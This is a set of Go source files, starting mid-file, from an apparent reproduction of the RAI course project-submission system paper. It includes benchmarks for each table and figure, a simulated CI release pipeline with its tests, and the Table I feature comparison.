	client, err := deployment.NewClient("quickstart-team", os.Stdout)
	if err != nil {
		log.Fatal(err)
	}

	fmt.Println("== submitting a development job (rai run) ==")
	res, err := deployment.RunSubmission(ctx, client, workload.Submission{
		Time: deployment.Clock.Now().Add(time.Minute),
		Team: "quickstart-team",
		Kind: core.KindRun,
		Spec: project.Spec{
			Impl:   cnn.ImplIm2col, // the team has reached the im2col kernel
			Tuning: 1.1,
			Team:   "quickstart-team",
		},
	})
	if err != nil {
		log.Fatal(err)
	}

	fmt.Printf("\njob %s finished: %s\n", res.JobID, res.Status)
	fmt.Printf("verification accuracy: %.4f\n", res.Accuracy)
	fmt.Printf("internal timer:        %.4fs (test10 dataset)\n", res.InternalTimer.Seconds())
	fmt.Printf("build archive:         %s/%s\n", res.BuildBucket, res.BuildKey)

	// The /build directory (with the nvprof timeline) is downloadable.
	blob, err := client.DownloadBuildContext(ctx, res)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("downloaded /build archive: %d bytes\n", len(blob))
}
