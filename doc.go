// Package rai is a from-scratch Go reproduction of "RAI: A Scalable
// Project Submission System for Parallel Programming Courses" (Dakkak,
// Pearson, Li, Hwu — IPDPS Workshops 2017).
//
// The system of the paper's Figure 1 is implemented in internal
// packages, wired together by internal/sim:
//
//   - internal/core     — the RAI client/worker protocol (the paper's contribution)
//   - internal/broker   — topic/channel pub-sub queue (+ internal/brokerd TCP wire)
//   - internal/objstore — S3-like file server with last-use lifetimes
//   - internal/docstore — MongoDB-like metadata and ranking database
//   - internal/sandbox  — container runtime with the §V limits
//   - internal/shell    — build-command interpreter (cmake/make/nvprof/ece408)
//   - internal/cnn      — the course CNN-inference workload, five kernels
//   - internal/workload — the 176-student behaviour model (Figures 2 and 4)
//
// Executables live under cmd/ (rai, raibroker, raifs, raidb, raiworker,
// raiadmin, raisim); runnable walkthroughs under examples/. The
// reproduction harness is cmd/raisim; benchmark equivalents of every
// table and figure are in bench_test.go at the repository root. See
// README.md, DESIGN.md, and EXPERIMENTS.md.
package rai

// Version identifies this reproduction release.
const Version = "0.2.0"
