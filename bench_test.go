// Benchmark harness: one benchmark per table and figure in the paper
// (IDs in DESIGN.md §3), the ablation benches of DESIGN.md §4, and
// micro-benchmarks of the substrates. Run:
//
//	go test -bench=. -benchmem
package rai_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"math"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"rai/internal/archivex"
	"rai/internal/broker"
	"rai/internal/brokerd"
	"rai/internal/build"
	"rai/internal/bzip2w"
	"rai/internal/cnn"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/grading"
	"rai/internal/objstore"
	"rai/internal/project"
	"rai/internal/registry"
	"rai/internal/release"
	"rai/internal/sandbox"
	"rai/internal/scaling"
	"rai/internal/sim"
	"rai/internal/vfs"
	"rai/internal/workload"
	"rai/internal/yamlite"
)

// course is the fall 2016 term, generated once (deterministic).
var (
	courseOnce sync.Once
	courseVal  *workload.Course
)

func fall2016() *workload.Course {
	courseOnce.Do(func() { courseVal = workload.Generate(workload.Fall2016()) })
	return courseVal
}

// ---- Table I ----

// BenchmarkTable1FeatureMatrix regenerates the Table I comparison.
func BenchmarkTable1FeatureMatrix(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if text := sim.FormatTable1(); len(text) == 0 {
			b.Fatal("empty table")
		}
	}
}

// ---- Figure 1 ----

// BenchmarkFigure1EndToEndJob measures one full job through the Figure 1
// architecture: pack, upload, queue, sandbox build + inference, /build
// archive, database record, log streaming.
func BenchmarkFigure1EndToEndJob(b *testing.B) {
	d, err := sim.NewDeployment(sim.DeployConfig{RateLimit: time.Nanosecond})
	if err != nil {
		b.Fatal(err)
	}
	defer d.Close()
	c, err := d.NewClient("bench-team", io.Discard)
	if err != nil {
		b.Fatal(err)
	}
	at := d.Clock.Now()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		at = at.Add(time.Minute)
		res, err := d.RunSubmission(context.Background(), c, workload.Submission{
			Time: at, Team: "bench-team", Kind: core.KindRun,
			Spec: project.Spec{Impl: cnn.ImplIm2col, Tuning: 1, Team: "bench-team"},
		})
		if err != nil {
			b.Fatal(err)
		}
		if res.Status != core.StatusSucceeded {
			b.Fatalf("status %s", res.Status)
		}
	}
}

// ---- Listings 1 and 2 ----

// BenchmarkListing1Parse parses the default rai-build.yml.
func BenchmarkListing1Parse(b *testing.B) {
	blob, err := build.Default().Encode()
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := build.Parse(blob); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkListing2SubmissionSpec validates the enforced final spec.
func BenchmarkListing2SubmissionSpec(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if err := build.Submission().Validate(); err != nil {
			b.Fatal(err)
		}
	}
}

// ---- Figure 2 ----

// BenchmarkFigure2RuntimeHistogram replays all final submissions and
// bins the top-30 runtimes (0.1 s quanta).
func BenchmarkFigure2RuntimeHistogram(b *testing.B) {
	course := fall2016()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := sim.Figure2(course)
		if err != nil {
			b.Fatal(err)
		}
		if res.Teams != 58 {
			b.Fatalf("teams = %d", res.Teams)
		}
	}
}

// ---- Figure 3 ----

// BenchmarkFigure3DownloadMatrix runs the CI cross-compile fan-out for
// both branches and renders the download table.
func BenchmarkFigure3DownloadMatrix(b *testing.B) {
	for i := 0; i < b.N; i++ {
		ci := release.NewCI("rai-client", "https://dl", nil)
		ci.Now = func() time.Time { return time.Unix(1479600000, 0) }
		if _, err := ci.Push(release.BranchStable, "aaaa", "0.2.1"); err != nil {
			b.Fatal(err)
		}
		if _, err := ci.Push(release.BranchDevel, "bbbb", "0.3.0"); err != nil {
			b.Fatal(err)
		}
		if rows := ci.Table(); len(rows) != 10 {
			b.Fatalf("rows = %d", len(rows))
		}
	}
}

// ---- Figure 4 ----

// BenchmarkFigure4SubmissionTimeline builds the last-two-weeks hourly
// series (30,782 submissions in the paper).
func BenchmarkFigure4SubmissionTimeline(b *testing.B) {
	course := fall2016()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res := sim.Figure4(course)
		if res.Total < 25_000 {
			b.Fatalf("total = %d", res.Total)
		}
	}
}

// ---- §VII aggregates (S1) ----

// BenchmarkCourseStats replays the full 41k-job term and totals the
// §VII quantities (submissions, upload GB, log GB).
func BenchmarkCourseStats(b *testing.B) {
	course := fall2016()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s, err := sim.Stats(course)
		if err != nil {
			b.Fatal(err)
		}
		if s.TotalSubmissions < 38_000 {
			b.Fatalf("submissions = %d", s.TotalSubmissions)
		}
	}
}

// ---- provisioning (S2) ----

// BenchmarkElasticScaling replays the three §VII provisioning phases.
func BenchmarkElasticScaling(b *testing.B) {
	course := fall2016()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		out, _, err := sim.ResourceUsagePhases(course)
		if err != nil {
			b.Fatal(err)
		}
		if len(out) != 3 {
			b.Fatal("phases")
		}
	}
}

// ---- baseline (B1) ----

// BenchmarkBaselineFixedCluster compares fixed fleets against elastic
// provisioning on the deadline-burst window.
func BenchmarkBaselineFixedCluster(b *testing.B) {
	course := fall2016()
	from := course.Cfg.Deadline.Add(-14 * 24 * time.Hour)
	to := course.Cfg.Deadline.Add(time.Hour)
	policies := []scaling.Policy{
		scaling.FixedPolicy{N: 4},
		scaling.FixedPolicy{N: 30},
		scaling.ElasticPolicy{Min: 4, Max: 30, SlotsPerInstance: 1},
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		out, _, err := sim.ComparePolicies(course, from, to, policies)
		if err != nil {
			b.Fatal(err)
		}
		if out[0].WaitP95 <= out[1].WaitP95 {
			b.Fatal("fixed-4 did not oversubscribe")
		}
	}
}

// ---- ablations (DESIGN.md §4) ----

// BenchmarkWorkerConcurrencyJitter quantifies why the course switched to
// single-job workers for benchmarking (§V): it measures the runtime
// dispersion of the real parallel CNN kernel with and without co-runners
// on the same machine and reports the max/min spread as a metric.
func BenchmarkWorkerConcurrencyJitter(b *testing.B) {
	nw := cnn.NewNetwork(408)
	ds, err := cnn.SynthesizeDataset(nw, 9, 16)
	if err != nil {
		b.Fatal(err)
	}
	measure := func(corunners int) float64 {
		stop := make(chan struct{})
		var wg sync.WaitGroup
		for g := 0; g < corunners; g++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for {
					select {
					case <-stop:
						return
					default:
						nw.Forward(cnn.ImplParallel, ds.Images)
					}
				}
			}()
		}
		lo, hi := math.MaxFloat64, 0.0
		for r := 0; r < 5; r++ {
			t0 := time.Now()
			nw.Forward(cnn.ImplParallel, ds.Images)
			el := time.Since(t0).Seconds()
			if el < lo {
				lo = el
			}
			if el > hi {
				hi = el
			}
		}
		close(stop)
		wg.Wait()
		return hi / lo
	}
	b.ResetTimer()
	var solo, shared float64
	for i := 0; i < b.N; i++ {
		solo = measure(0)
		shared = measure(3)
	}
	b.ReportMetric(solo, "spread-single-job")
	b.ReportMetric(shared, "spread-multi-job")
}

// BenchmarkRerunMinStability quantifies the §VI grading choice: the
// minimum of N reruns is a far more stable statistic than a single run.
// Metrics report the relative spread of each estimator over trials.
func BenchmarkRerunMinStability(b *testing.B) {
	nw := cnn.NewNetwork(408)
	ds, err := cnn.SynthesizeDataset(nw, 10, 8)
	if err != nil {
		b.Fatal(err)
	}
	timeOnce := func() time.Duration {
		t0 := time.Now()
		nw.Forward(cnn.ImplIm2col, ds.Images)
		return time.Since(t0)
	}
	spread := func(samples []float64) float64 {
		lo, hi := math.MaxFloat64, 0.0
		for _, s := range samples {
			if s < lo {
				lo = s
			}
			if s > hi {
				hi = s
			}
		}
		return hi / lo
	}
	b.ResetTimer()
	var singleSpread, minSpread float64
	for i := 0; i < b.N; i++ {
		var singles, mins []float64
		for trial := 0; trial < 6; trial++ {
			singles = append(singles, timeOnce().Seconds())
			res, err := grading.RerunMin("t", 5, func(string) (time.Duration, float64, error) {
				return timeOnce(), 1, nil
			})
			if err != nil {
				b.Fatal(err)
			}
			mins = append(mins, res.Best.Seconds())
		}
		singleSpread = spread(singles)
		minSpread = spread(mins)
	}
	b.ReportMetric(singleSpread, "spread-single-run")
	b.ReportMetric(minSpread, "spread-min-of-5")
}

// BenchmarkEphemeralTopicChurn exercises the broker's log-topic
// lifecycle: create, publish, drain, and garbage-collect (the
// log_${job_id} pattern at job rates).
func BenchmarkEphemeralTopicChurn(b *testing.B) {
	q := broker.New()
	defer q.Close()
	for i := 0; i < b.N; i++ {
		topic := core.LogTopic(fmt.Sprintf("job%d", i))
		sub, err := q.Subscribe(topic, core.LogChannel, 16)
		if err != nil {
			b.Fatal(err)
		}
		for k := 0; k < 10; k++ {
			q.Publish(topic, []byte("line of build output"))
		}
		for k := 0; k < 10; k++ {
			m := <-sub.C()
			sub.Ack(m)
		}
		sub.Close()
		if q.HasTopic(topic) {
			b.Fatal("topic leaked")
		}
	}
}

// ---- substrate micro-benchmarks ----

// BenchmarkBrokerThroughput measures publish->deliver->ack round trips.
func BenchmarkBrokerThroughput(b *testing.B) {
	q := broker.New()
	defer q.Close()
	sub, err := q.Subscribe("rai", "tasks", 64)
	if err != nil {
		b.Fatal(err)
	}
	payload := bytes.Repeat([]byte("j"), 512)
	b.SetBytes(int64(len(payload)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := q.Publish("rai", payload); err != nil {
			b.Fatal(err)
		}
		m := <-sub.C()
		sub.Ack(m)
	}
}

// BenchmarkBrokerFanout measures a 1->8 channel broadcast.
func BenchmarkBrokerFanout(b *testing.B) {
	q := broker.New()
	defer q.Close()
	var subs []*broker.Subscription
	for i := 0; i < 8; i++ {
		sub, err := q.Subscribe("events", fmt.Sprintf("ch%d", i), 64)
		if err != nil {
			b.Fatal(err)
		}
		subs = append(subs, sub)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		q.Publish("events", []byte("evt"))
		for _, sub := range subs {
			m := <-sub.C()
			sub.Ack(m)
		}
	}
}

// BenchmarkBrokerParallelMultiTopic is the contended fast-path
// benchmark: every worker owns its own topic (the log_${job_id} shape)
// and runs publish->deliver->ack loops concurrently. With a single
// broker-wide mutex all workers serialize; with per-topic locking they
// proceed independently.
func BenchmarkBrokerParallelMultiTopic(b *testing.B) {
	q := broker.New()
	defer q.Close()
	var nextTopic atomic.Int64
	payload := bytes.Repeat([]byte("j"), 512)
	b.SetBytes(int64(len(payload)))
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		topic := fmt.Sprintf("bench.shard%d", nextTopic.Add(1))
		sub, err := q.Subscribe(topic, "tasks", 64)
		if err != nil {
			b.Error(err)
			return
		}
		for pb.Next() {
			if _, err := q.Publish(topic, payload); err != nil {
				b.Error(err)
				return
			}
			m := <-sub.C()
			sub.Ack(m)
		}
	})
}

// BenchmarkWireCodec measures one brokerd delivery frame through
// encode+decode in each wire encoding. The binary codec avoids the JSON
// round trip's reflection and base64 body inflation entirely.
func BenchmarkWireCodec(b *testing.B) {
	frame := &brokerd.Frame{
		Op: brokerd.OpMsg, Seq: 12345, MsgID: 67890, Attempts: 1,
		Topic: "log_job42#x", Time: time.Unix(1479600000, 0).UTC(),
		Body: bytes.Repeat([]byte("j"), 512),
	}
	for _, tc := range []struct {
		name  string
		codec brokerd.Codec
	}{{"json", brokerd.JSONCodec}, {"binary", brokerd.BinaryCodec}} {
		b.Run(tc.name, func(b *testing.B) {
			var buf bytes.Buffer
			b.SetBytes(int64(len(frame.Body)))
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				buf.Reset()
				if err := tc.codec.Encode(&buf, frame); err != nil {
					b.Fatal(err)
				}
				if _, err := tc.codec.Decode(&buf); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkObjstorePutGet measures file-server round trips at archive
// sizes.
func BenchmarkObjstorePutGet(b *testing.B) {
	s := objstore.New()
	payload := bytes.Repeat([]byte("x"), 1<<20)
	b.SetBytes(int64(len(payload)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := s.Put("uploads", "team/proj.tar.bz2", payload, 0); err != nil {
			b.Fatal(err)
		}
		if _, _, err := s.Get("uploads", "team/proj.tar.bz2"); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkDocstoreQuery measures a filtered, sorted ranking query over
// a class-sized collection.
func BenchmarkDocstoreQuery(b *testing.B) {
	db := docstore.New()
	for i := 0; i < 1000; i++ {
		db.Insert("jobs", docstore.M{
			"user": fmt.Sprintf("team%02d", i%58), "status": "succeeded",
			"elapsed_s": float64(i%300) / 10, "kind": "run",
		})
	}
	filter := docstore.M{"user": "team07", "elapsed_s": docstore.M{"$lt": 20.0}}
	opts := docstore.FindOpts{Sort: []string{"-elapsed_s"}, Limit: 10}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := db.Find("jobs", filter, opts); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkYamliteParse parses the Listing 1 build file.
func BenchmarkYamliteParse(b *testing.B) {
	blob, err := build.Default().Encode()
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(blob)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := yamlite.Parse(blob); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkBzip2Compress measures the from-scratch compressor on
// source-like data.
func BenchmarkBzip2Compress(b *testing.B) {
	payload := bytes.Repeat([]byte("for (int i = 0; i < N; ++i) { y[i] += w[i] * x[i]; }\n"), 2000)
	b.SetBytes(int64(len(payload)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := bzip2w.Compress(payload); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTarBz2RoundTrip packs and unpacks a student project.
func BenchmarkTarBz2RoundTrip(b *testing.B) {
	fs := vfs.New()
	if err := project.WriteTo(fs, "/p", project.Spec{Impl: cnn.ImplIm2col, Team: "bench"}); err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		blob, err := archivex.PackVFS(fs, "/p")
		if err != nil {
			b.Fatal(err)
		}
		out := vfs.New()
		if err := archivex.UnpackVFS(blob, out, "/d", archivex.Limits{}); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkCNNForward measures the real workload kernels; the ratios
// across sub-benchmarks are the student optimization journey.
func BenchmarkCNNForward(b *testing.B) {
	nw := cnn.NewNetwork(408)
	ds, err := cnn.SynthesizeDataset(nw, 11, 8)
	if err != nil {
		b.Fatal(err)
	}
	for _, im := range cnn.Impls {
		b.Run(im.String(), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				if _, err := nw.Forward(im, ds.Images); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkSandboxStartup measures container creation with mounts.
func BenchmarkSandboxStartup(b *testing.B) {
	src := vfs.New()
	if err := project.WriteTo(src, "/src", project.Spec{Impl: cnn.ImplTiled}); err != nil {
		b.Fatal(err)
	}
	rt := sandbox.NewRuntime(registry.NewCourseRegistry())
	cfg := sandbox.Config{
		Image:  "webgpu/rai:root",
		Mounts: []sandbox.Mount{{Source: src, SourcePath: "/src", Target: "/src", ReadOnly: true}},
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ctr, err := rt.Start(cfg)
		if err != nil {
			b.Fatal(err)
		}
		ctr.Destroy()
	}
}

// BenchmarkWorkloadGeneration measures the deterministic course
// generator (58 teams, ~41k submissions).
func BenchmarkWorkloadGeneration(b *testing.B) {
	cfg := workload.Fall2016()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		c := workload.Generate(cfg)
		if len(c.Teams) != 58 {
			b.Fatal("teams")
		}
	}
}
