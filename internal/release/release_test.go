package release

import (
	"strings"
	"testing"
	"time"

	"rai/internal/objstore"
)

func fixedNow() time.Time { return time.Date(2016, 11, 15, 8, 0, 0, 0, time.UTC) }

// storeUploader adapts the objstore engine to the Uploader port.
type storeUploader struct{ s *objstore.Store }

func (u storeUploader) Put(bucket, key string, data []byte, ttl time.Duration) error {
	_, err := u.s.Put(bucket, key, data, ttl)
	return err
}

func TestTargetsMatchFigure3(t *testing.T) {
	ts := Targets()
	if len(ts) != 10 {
		t.Fatalf("targets = %d, want 10 (Figure 3 rows)", len(ts))
	}
	count := map[string]int{}
	for _, tgt := range ts {
		count[tgt.OS]++
	}
	if count["linux"] != 6 || count["darwin"] != 2 || count["windows"] != 2 {
		t.Errorf("per-OS counts = %v, want linux:6 darwin:2 windows:2", count)
	}
}

func TestPushBuildsAllTargetsAndUploads(t *testing.T) {
	store := objstore.New()
	ci := NewCI("rai-client", "https://files.rai-project.com", storeUploader{store})
	ci.Now = fixedNow
	arts, err := ci.Push(BranchStable, "abc1234", "0.2.1")
	if err != nil {
		t.Fatal(err)
	}
	if len(arts) != 10 {
		t.Fatalf("artifacts = %d", len(arts))
	}
	infos, err := store.List("rai-client", "master/")
	if err != nil || len(infos) != 10 {
		t.Fatalf("uploaded = %d, %v", len(infos), err)
	}
	// The Windows artifact carries .exe.
	found := false
	for _, a := range arts {
		if a.Target.OS == "windows" && strings.HasSuffix(a.Key, ".exe") {
			found = true
		}
	}
	if !found {
		t.Error("windows artifact lacks .exe suffix")
	}
	// Version info is embedded and identifies the commit (§VII).
	data, _, err := store.Get("rai-client", arts[0].Key)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"abc1234", "0.2.1", "master", "2016-11-15"} {
		if !strings.Contains(string(data), want) {
			t.Errorf("embedded build info missing %q: %s", want, data)
		}
	}
}

func TestTableHasBothBranchColumns(t *testing.T) {
	ci := NewCI("rai-client", "https://dl", nil)
	ci.Now = fixedNow
	if _, err := ci.Push(BranchStable, "aaaa111", "0.2.0"); err != nil {
		t.Fatal(err)
	}
	if _, err := ci.Push(BranchDevel, "bbbb222", "0.3.0-dev"); err != nil {
		t.Fatal(err)
	}
	rows := ci.Table()
	if len(rows) != 10 {
		t.Fatalf("rows = %d", len(rows))
	}
	for _, r := range rows {
		if r.StableURL == "" || r.DevelURL == "" {
			t.Errorf("row %s/%s missing a link: %+v", r.OS, r.Arch, r)
		}
		if !strings.Contains(r.StableURL, "master") || !strings.Contains(r.DevelURL, "devel") {
			t.Errorf("branch mixup in row %+v", r)
		}
	}
	text := FormatTable(rows)
	for _, want := range []string{"Linux", "OSX/Darwin", "Windows", "amd64", "armv7", "Stable Version Link", "Development Version Link"} {
		if !strings.Contains(text, want) {
			t.Errorf("table missing %q:\n%s", want, text)
		}
	}
}

func TestPushValidation(t *testing.T) {
	ci := NewCI("b", "https://dl", nil)
	ci.Now = fixedNow
	if _, err := ci.Push("feature-branch", "c", "v"); err == nil {
		t.Error("unknown branch accepted")
	}
	if _, err := ci.Push(BranchStable, "", "v"); err == nil {
		t.Error("empty commit accepted")
	}
}

func TestMergeDevelToStable(t *testing.T) {
	ci := NewCI("b", "https://dl", nil)
	ci.Now = fixedNow
	if _, err := ci.MergeDevelToStable("0.2.0"); err == nil {
		t.Error("merge with empty devel accepted")
	}
	ci.Push(BranchDevel, "feat123", "0.3.0-dev")
	arts, err := ci.MergeDevelToStable("0.3.0")
	if err != nil {
		t.Fatal(err)
	}
	if arts[0].Info.Commit != "feat123" || arts[0].Branch != BranchStable {
		t.Errorf("merged artifact = %+v", arts[0].Info)
	}
	if ci.Builds() != 2 {
		t.Errorf("builds = %d", ci.Builds())
	}
}

func TestBuildInfoString(t *testing.T) {
	info := BuildInfo{Version: "0.2.1", Commit: "abc", Branch: "master", BuildDate: fixedNow(), OS: "linux", Arch: "amd64"}
	s := info.String()
	for _, want := range []string{"rai 0.2.1", "abc", "linux/amd64", "master"} {
		if !strings.Contains(s, want) {
			t.Errorf("BuildInfo.String() missing %q: %s", want, s)
		}
	}
}

func TestSortArtifacts(t *testing.T) {
	ci := NewCI("b", "https://dl", nil)
	ci.Now = fixedNow
	arts, _ := ci.Push(BranchStable, "c1", "v")
	SortArtifacts(arts)
	for i := 1; i < len(arts); i++ {
		a, b := arts[i-1], arts[i]
		if a.Target.OS > b.Target.OS || (a.Target.OS == b.Target.OS && a.Target.Arch > b.Target.Arch) {
			t.Fatalf("not sorted at %d: %v > %v", i, a.Target, b.Target)
		}
	}
}
