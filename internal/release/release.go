// Package release models RAI client delivery (paper §VII "RAI Client
// Delivery" and Figure 3): a continuous build system cross-compiles the
// master (stable) and devel (development) branches for every supported
// OS/architecture pair, embeds the commit version and build date in each
// binary, uploads artifacts to the file server, and renders the download
// table students see on the project website.
package release

import (
	"fmt"
	"sort"
	"strings"
	"time"

	"rai/internal/clock"
)

// Target is one OS/architecture the client is cross-compiled for.
type Target struct {
	OS   string
	Arch string
}

// Targets returns the download matrix rows exactly as Figure 3 lists
// them: six Linux architectures, two OSX/Darwin, two Windows.
func Targets() []Target {
	return []Target{
		{"linux", "i386"},
		{"linux", "amd64"},
		{"linux", "armv5"},
		{"linux", "armv6"},
		{"linux", "armv7"},
		{"linux", "arm64"},
		{"darwin", "i386"},
		{"darwin", "amd64"},
		{"windows", "i386"},
		{"windows", "amd64"},
	}
}

// Branches the CI system builds (§VII: master is stable, devel carries
// new features and non-critical fixes until merged).
const (
	BranchStable = "master"
	BranchDevel  = "devel"
)

// BuildInfo is embedded in every produced client binary so bug reports
// identify the exact commit ("Students would provide this information
// when they reported bugs", §VII).
type BuildInfo struct {
	Version   string
	Commit    string
	Branch    string
	BuildDate time.Time
	OS        string
	Arch      string
}

// String renders what `rai version` prints.
func (b BuildInfo) String() string {
	return fmt.Sprintf("rai %s (%s) %s/%s built %s from %s",
		b.Version, b.Commit, b.OS, b.Arch, b.BuildDate.UTC().Format("2006-01-02T15:04:05Z"), b.Branch)
}

// Artifact is one cross-compiled client binary.
type Artifact struct {
	Target Target
	Branch string
	Info   BuildInfo
	// Key is the object-store key the artifact was uploaded to.
	Key string
	// URL is the public download link rendered on the website.
	URL string
}

// binaryName forms the artifact file name.
func binaryName(t Target, branch string) string {
	name := fmt.Sprintf("rai-%s-%s-%s", branch, t.OS, t.Arch)
	if t.OS == "windows" {
		name += ".exe"
	}
	return name
}

// Uploader stores built artifacts (the objstore client or engine).
type Uploader interface {
	Put(bucket, key string, data []byte, ttl time.Duration) error
}

// CI is the continuous build system: it reacts to pushes by building
// every target for the pushed branch and uploading the results.
type CI struct {
	// Bucket receives artifacts (linked from the project home page).
	Bucket string
	// BaseURL prefixes download links.
	BaseURL string
	// Uploader is the artifact destination; nil skips uploading (table
	// rendering only).
	Uploader Uploader
	// Now supplies build timestamps.
	Now func() time.Time

	latest map[string][]Artifact // branch -> artifacts of latest build
	builds int
}

// NewCI returns a CI publishing into bucket at baseURL.
func NewCI(bucket, baseURL string, up Uploader) *CI {
	return &CI{
		Bucket:   bucket,
		BaseURL:  strings.TrimSuffix(baseURL, "/"),
		Uploader: up,
		Now:      clock.Real{}.Now,
		latest:   map[string][]Artifact{},
	}
}

// Push simulates a commit landing on branch: all targets are rebuilt,
// stamped with the commit, and uploaded, so "code changes to fix bugs or
// address features were automatically made available to students" (§VII).
func (ci *CI) Push(branch, commit, version string) ([]Artifact, error) {
	if branch != BranchStable && branch != BranchDevel {
		return nil, fmt.Errorf("release: unknown branch %q", branch)
	}
	if commit == "" {
		return nil, fmt.Errorf("release: empty commit")
	}
	now := ci.Now()
	var artifacts []Artifact
	for _, t := range Targets() {
		info := BuildInfo{
			Version: version, Commit: commit, Branch: branch,
			BuildDate: now, OS: t.OS, Arch: t.Arch,
		}
		key := fmt.Sprintf("%s/%s", branch, binaryName(t, branch))
		a := Artifact{
			Target: t, Branch: branch, Info: info,
			Key: key,
			URL: ci.BaseURL + "/" + key,
		}
		if ci.Uploader != nil {
			// The artifact body is the embedded build info; a real build
			// would be the compiled binary with this stamped in.
			if err := ci.Uploader.Put(ci.Bucket, key, []byte(info.String()), 0); err != nil {
				return nil, fmt.Errorf("release: uploading %s: %w", key, err)
			}
		}
		artifacts = append(artifacts, a)
	}
	ci.latest[branch] = artifacts
	ci.builds++
	return artifacts, nil
}

// Builds reports how many CI builds have run.
func (ci *CI) Builds() int { return ci.builds }

// Latest returns the latest artifacts for branch.
func (ci *CI) Latest(branch string) []Artifact {
	return append([]Artifact(nil), ci.latest[branch]...)
}

// Row is one line of the Figure 3 download table.
type Row struct {
	OS, Arch  string
	StableURL string
	DevelURL  string
}

// Table renders the Figure 3 matrix from the latest builds. Rows appear
// in the canonical target order; missing builds leave empty URLs.
func (ci *CI) Table() []Row {
	find := func(branch string, t Target) string {
		for _, a := range ci.latest[branch] {
			if a.Target == t {
				return a.URL
			}
		}
		return ""
	}
	var rows []Row
	for _, t := range Targets() {
		rows = append(rows, Row{
			OS: t.OS, Arch: t.Arch,
			StableURL: find(BranchStable, t),
			DevelURL:  find(BranchDevel, t),
		})
	}
	return rows
}

// FormatTable renders the table as aligned text (the raisim figure3
// output).
func FormatTable(rows []Row) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-18s %-8s %-36s %s\n", "Operating System", "Arch", "Stable Version Link", "Development Version Link")
	for _, r := range rows {
		osName := r.OS
		switch osName {
		case "darwin":
			osName = "OSX/Darwin"
		case "linux":
			osName = "Linux"
		case "windows":
			osName = "Windows"
		}
		fmt.Fprintf(&b, "%-18s %-8s %-36s %s\n", osName, r.Arch, r.StableURL, r.DevelURL)
	}
	return b.String()
}

// MergeDevelToStable models §VII's flow: "The devel branch was merged
// into master as the changes were deemed to be stable."
func (ci *CI) MergeDevelToStable(version string) ([]Artifact, error) {
	devel := ci.latest[BranchDevel]
	if len(devel) == 0 {
		return nil, fmt.Errorf("release: nothing on devel to merge")
	}
	return ci.Push(BranchStable, devel[0].Info.Commit, version)
}

// SortArtifacts orders artifacts deterministically (OS, then arch).
func SortArtifacts(as []Artifact) {
	sort.Slice(as, func(i, j int) bool {
		if as[i].Target.OS != as[j].Target.OS {
			return as[i].Target.OS < as[j].Target.OS
		}
		return as[i].Target.Arch < as[j].Target.Arch
	})
}
