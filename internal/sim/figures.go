package sim

import (
	"fmt"
	"strings"
	"time"

	"rai/internal/docstore"
	"rai/internal/ranking"
	"rai/internal/scaling"
	"rai/internal/stats"
	"rai/internal/workload"
)

// ---- Table I ----

// SystemFeatures is one row of the paper's Table I.
type SystemFeatures struct {
	System          string
	Configurability bool
	Isolation       bool
	Scalability     bool
	Accessibility   bool
	Uniformity      bool
}

// Table1 returns the feature comparison exactly as the paper presents
// it. The RAI row's properties are the ones this repository demonstrates
// by construction: configurability (whitelisted images + rai-build.yml),
// isolation (sandbox limits), scalability (elastic workers), accessibility
// (cross-platform client), and testing uniformity (enforced Listing 2).
func Table1() []SystemFeatures {
	return []SystemFeatures{
		{"Student-Provided", true, true, true, false, false},
		{"Torque/PBS", true, true, true, true, false},
		{"WebGPU", false, true, true, true, true},
		{"Jenkins", true, true, true, false, true},
		{"QwikLabs", false, true, true, true, false},
		{"RAI", true, true, true, true, true},
	}
}

// FormatTable1 renders Table I as text.
func FormatTable1() string {
	t := &stats.Table{Header: []string{"System", "Configurability", "Isolation", "Scalability", "Accessibility", "Testing Uniformity"}}
	mark := func(b bool) string {
		if b {
			return "yes"
		}
		return "no"
	}
	for _, r := range Table1() {
		t.AddRow(r.System, mark(r.Configurability), mark(r.Isolation), mark(r.Scalability), mark(r.Accessibility), mark(r.Uniformity))
	}
	return t.String()
}

// ---- Figure 2 ----

// Figure2Result carries the final-runtime histogram.
type Figure2Result struct {
	Bins    []ranking.HistogramBin
	Teams   int
	Fastest float64
	Slowest float64
	// ModeBin is the [Lo,Hi) of the most populated bin.
	ModeBin ranking.HistogramBin
	Text    string
}

